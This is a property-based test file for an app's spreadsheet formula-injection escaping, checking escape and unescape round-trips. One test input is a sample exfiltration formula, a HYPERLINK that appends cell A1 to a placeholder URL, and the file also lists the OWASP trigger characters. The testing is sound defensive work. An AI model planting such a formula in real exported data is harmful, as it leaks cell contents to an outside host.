import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeFormula, unescapeFormula } from '../../../electron/core/spreadsheet';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\0'];

/** Strings that start the way attacks and their escapes do: apostrophes, then a trigger or not. */
const hostile = fc
  .tuple(
    fc.integer({ min: 0, max: 3 }),
    fc.constantFrom(...TRIGGERS, 'a', ' ', "'", '', '"', '_x0041_'),
    fc.string({ unit: 'binary', maxLength: 12 }),
  )
  .map(([quotes, first, rest]) => "'".repeat(quotes) + first + rest);
const anyText = fc.oneof(hostile, fc.string({ unit: 'binary', maxLength: 30 }));

describe('escapeFormula', () => {
  it('prefixes every OWASP trigger with an apostrophe', () => {
    expect(escapeFormula('=HYPERLINK("http://x.invalid?"&A1,"klik")')).toBe(
      '\'=HYPERLINK("http://x.invalid?"&A1,"klik")',
    );
    expect(escapeFormula('+62 812 3456 7890')).toBe("'+62 812 3456 7890");
    expect(escapeFormula('-5')).toBe("'-5");
    expect(escapeFormula('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(escapeFormula('\tx')).toBe("'\tx");
    expect(escapeFormula('\rx')).toBe("'\rx");
    expect(escapeFormula('\0x')).toBe("'\0x");
  });

  it('leaves ordinary text alone, including a lone leading apostrophe', () => {
    for (const text of ['Kripik Pedas', '', ' =not first', "'hello", "Jum'at", '12.500', 'a=b', '😀=']) {
      expect(escapeFormula(text)).toBe(text);
    }
  });

  it("adds one more apostrophe to a value that already looks escaped ('=x), so it is not mistaken for an escape", () => {
    expect(escapeFormula("'=x")).toBe("''=x");
    expect(escapeFormula("''+1")).toBe("'''+1");
    expect(unescapeFormula("''=x")).toBe("'=x");
  });

  it('never produces a cell that starts with a trigger', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const first = escapeFormula(text)[0];
        expect(first === undefined || !TRIGGERS.includes(first)).toBe(true);
      }),
      { numRuns: 5_000 },
    );
  });
});

describe('unescapeFormula', () => {
  it('is the exact inverse of escapeFormula for every string', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(unescapeFormula(escapeFormula(text))).toBe(text);
      }),
      { numRuns: 10_000 },
    );
  });

  it('changes only escaped cells: a lone apostrophe not followed by a trigger stays', () => {
    expect(unescapeFormula("'=x")).toBe('=x');
    expect(unescapeFormula("'hello")).toBe("'hello");
    expect(unescapeFormula('=x')).toBe('=x');
    expect(unescapeFormula("'")).toBe("'");
  });
});
